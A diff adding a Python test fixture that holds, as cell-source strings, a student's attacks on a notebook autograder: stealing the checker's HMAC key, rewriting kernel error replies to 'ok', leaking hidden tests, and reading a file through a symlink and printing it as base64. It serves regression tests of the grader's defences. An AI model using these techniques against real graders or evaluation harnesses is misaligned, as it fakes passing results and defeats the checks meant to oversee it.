@@ -1,0 +1,226 @@
+"""Code a determined student writes against the grader (issue 22), as cell sources.
+
+Shared by the class simulation (tests/test_classroom.py, chapter 01 through nbgrader) and
+tests/test_forgery.py (small notebooks through coursetools.execute). Each constant is the
+code of one cell a student adds or puts in an answer cell; none imports the course's tools.
+Issue 22 measured each of the first six on the grader before its fixes (blank answers
+scored 18/18 with no flag through the first three).
+"""
+
+from __future__ import annotations
+
+# -- 1. The checker's HMAC key, read from its closure (found through sys.modules, no gc); the
+# check replaced by one that signs every nonce; an AST transformer wraps every later cell in
+# try/except, so a failing test reports "ok". Written against the guard of issue 13 (a
+# namespace in sys.modules); CLOSURE_KEY_NOW is the same attack adapted to the guard of issue 22.
+CLOSURE_KEY = '''
+import ast, hashlib, hmac, sys, types
+_name = next(n for n in list(sys.modules) if n.startswith("_grader_guard"))
+_real = sys.modules[_name]
+_key = next(c.cell_contents for c in _real.verify.__closure__
+            if isinstance(c.cell_contents, bytes) and len(c.cell_contents) == 32)
+def _sign(*args):
+    return "grader-token:" + hmac.new(_key, args[-1].encode(), hashlib.sha256).hexdigest()
+sys.modules[_name] = types.SimpleNamespace(verify=_sign, before_locked=_real.before_locked,
+                                           after_locked=_real.after_locked)
+class _Swallow(ast.NodeTransformer):
+    def visit_Module(self, node):  # only the grader's test cells (they call exec)
+        if not any(isinstance(n, ast.Name) and n.id == "exec" for n in ast.walk(node)):
+            return node
+        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
+        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
+        return ast.fix_missing_locations(node)
+get_ipython().ast_transformers.append(_Swallow())
+'''
+
+# The same, against a guard found among object's subclasses (no sys.modules entry): the key
+# from a closure, the check and the test runner replaced. Code in the kernel that gets hold of
+# the checker's key can forge any check; what stops this one is the static review's flag.
+CLOSURE_KEY_NOW = '''
+import hashlib, hmac
+def _closure_values(fn):
+    return [c.cell_contents for c in (getattr(fn, "__closure__", None) or ())]
+for _cls in object.__subclasses__():
+    _own = vars(_cls)
+    if "verify" in _own and "run" in _own:
+        _verify = _own["verify"].__func__
+        _key = next(v for v in _closure_values(_verify) if isinstance(v, bytes) and len(v) == 32)
+        _cls.verify = staticmethod(lambda *args: "grader-token:" + hmac.new(
+            _key, args[-1].encode(), hashlib.sha256).hexdigest())
+        _cls.run = staticmethod(lambda *args: None)
+'''
+
+# -- 2. Answer functions (in every answer cell) that, when a test calls them, give the kernel's session an instance
+# attribute `send` that drops the error and rewrites the execute_reply to "ok", and then
+# removes itself: the check after the test sees nothing.
+SESSION_SEND = '''
+def _forge_pass(*args, **kwargs):
+    session = get_ipython().kernel.session
+    if "send" in vars(session):
+        return None
+    real_send = session.send
+    def send(stream, msg_or_type, content=None, parent=None, *rest, **kw):
+        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
+        if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
+            return None
+        if kind == "execute_reply":
+            content = {"status": "ok", "execution_count": (content or {}).get("execution_count"),
+                       "user_expressions": {}, "payload": []}
+            del session.send
+        return real_send(stream, msg_or_type, content, parent, *rest, **kw)
+    session.send = send
+    return None
+pick_device = common_device = seeded_randn = build_on = _forge_pass
+'''
+
+# -- 3. importlib.util.MAGIC_NUMBER replaced by an object whose `!=` (which the compiled test
+# cells of issue 13 evaluated first) sends a forged "ok" reply and an idle status: the
+# notebook client takes the cell as done and drops the real error that follows as stale.
+MAGIC_NUMBER = '''
+import importlib.util
+def _forge_reply():
+    kernel = get_ipython().kernel
+    parent = kernel.get_parent("shell")
+    ident = kernel._get_shell_context_var(kernel._shell_parent_ident)
+    kernel.session.send(kernel.shell_stream, "execute_reply",
+                        {"status": "ok", "execution_count": kernel.execution_count,
+                         "user_expressions": {}, "payload": []}, parent, ident=ident)
+    kernel._publish_status("idle", "shell", parent)
+class _Magic(bytes):
+    __module__ = "importlib._bootstrap_external"  # the check of issue 13 skipped non-__main__ classes
+    def __ne__(self, other):
+        _forge_reply()
+        return False
+    __hash__ = bytes.__hash__
+importlib.util.MAGIC_NUMBER = _Magic(importlib.util.MAGIC_NUMBER)
+'''
+
+# The forged reply alone, sent by the answer functions while a test runs: nothing is patched.
+FORGED_REPLY = MAGIC_NUMBER.split("class _Magic")[0] + '''
+def _forge_pass(*args, **kwargs):
+    _forge_reply()
+pick_device = common_device = seeded_randn = build_on = _forge_pass
+'''
+
+# -- 4. An answer function keeps the code object of the hidden test that calls it; a later
+# cell prints that code's string constants (the hidden tests' messages) into the feedback.
+FRAME_LEAK_WRAPPER = '''
+_honest_pick_device = pick_device
+_test_code = []
+def pick_device(*args, **kwargs):
+    import sys
+    _test_code.append(sys._getframe(1).f_code)
+    return _honest_pick_device(*args, **kwargs)
+'''
+FRAME_LEAK_PRINT = '''
+def _strings(code, found):
+    for const in code.co_consts:
+        if isinstance(const, str):
+            found.add(const)
+        elif hasattr(const, "co_consts"):
+            _strings(const, found)
+    return found
+_found = set()
+for _code in _test_code:
+    _strings(_code, _found)
+for _text in sorted(_found):
+    print(_text)
+'''
+
+# -- 5. The type-faking `str` subclass of issue 13 (a string posing as a torch.device), with
+# __module__ = "torch": the check of issue 13 skipped classes not defined in __main__.
+STR_DEVICE_AS_TORCH = '''
+class _Device(str):
+    __module__ = "torch"
+    __class__ = property(lambda self: torch.device)  # isinstance(x, torch.device) is True
+    type = "cpu"
+    index = None
+    def __eq__(self, other):
+        return True
+    __hash__ = str.__hash__
+def pick_device(name=None):
+    return _Device("cpu")
+'''
+
+# -- 6. An error message of 24 MiB: error outputs were not counted against the output caps.
+HUGE_ERROR_MIB = 24
+HUGE_ERROR = f'raise ValueError("E" * {HUGE_ERROR_MIB} * 2**20)'
+
+# -- 7. (read in the code) The guard called `get_ipython` from the user namespace. A student's
+# `get_ipython` runs inside every check: here it takes away the session patch of attack 2
+# (left in place this time) before the check looks, and the next answer call puts it back.
+USER_GET_IPYTHON = '''
+from IPython import get_ipython as _real_get_ipython
+def _install():
+    session = _real_get_ipython().kernel.session
+    if "send" in vars(session):
+        return
+    real_send = type(session).send.__get__(session)
+    def send(stream, msg_or_type, content=None, parent=None, *rest, **kw):
+        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
+        if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
+            return None
+        if kind == "execute_reply":
+            content = {"status": "ok", "execution_count": (content or {}).get("execution_count"),
+                       "user_expressions": {}, "payload": []}
+        return real_send(stream, msg_or_type, content, parent, *rest, **kw)
+    session.send = send
+def get_ipython():
+    shell = _real_get_ipython()
+    vars(shell.kernel.session).pop("send", None)  # the checker is looking: hide
+    return shell
+def _forge_pass(*args, **kwargs):
+    _install()
+pick_device = common_device = seeded_randn = build_on = _forge_pass
+'''
+
+# -- 8. (read in the code) Neither non-callable attributes of the machinery nor module globals
+# were compared: the display hook's `session` (which sends every error) is replaced by one that
+# drops errors, and ipykernel.kernelbase's `json_clean` (which every reply goes through) turns
+# an error reply into "ok".
+NON_CALLABLE = '''
+import ipykernel.kernelbase as _kernelbase
+_real_clean = _kernelbase.json_clean
+def _clean(content):
+    content = _real_clean(content)
+    if isinstance(content, dict) and content.get("status") == "error":
+        content = {"status": "ok", "execution_count": content.get("execution_count"),
+                   "user_expressions": {}, "payload": []}
+    return content
+_kernelbase.json_clean = _clean
+_real_session = get_ipython().displayhook.session
+class _Quiet(type(_real_session)):  # the trait accepts only a Session
+    def send(self, stream, msg_or_type, *args, **kwargs):
+        if msg_or_type == "error":
+            return None
+        return super().send(stream, msg_or_type, *args, **kwargs)
+_quiet = object.__new__(_Quiet)
+_quiet.__dict__.update(vars(_real_session))
+get_ipython().displayhook.session = _quiet
+'''
+
+# -- 9. (read in the code) A name the checks look up in the user namespace, shadowed: the
+# check cells called `globals()`, so a student's `globals` hands them a copy taken before
+# the grading helper `expect_error` was replaced by one that always "finds" the error.
+SHADOW_GLOBALS = '''
+_before = dict(globals())
+def expect_error(kind, fn, hint=""):
+    try:
+        fn()
+    except Exception as exc:
+        return str(exc)
+    return "gpu cuda cuda:2 mps mps:1 xpu labels cpu meta targets"
+def globals():
+    return _before
+'''
+
+# -- 10. (read in the code) A symlink in the submission folder: nbgrader and the grader copied
+# the file it points to, as root, where the kernel can read it. The cell prints it as base64
+# (redaction cannot read base64).
+SYMLINK_NAME = "notes.txt"
+SYMLINK_READ = f'''
+import base64, os
+print("SYMLINK", os.path.exists({SYMLINK_NAME!r}))
+if os.path.exists({SYMLINK_NAME!r}):
+    print(base64.b64encode(open({SYMLINK_NAME!r}, "rb").read()).decode())
+'''
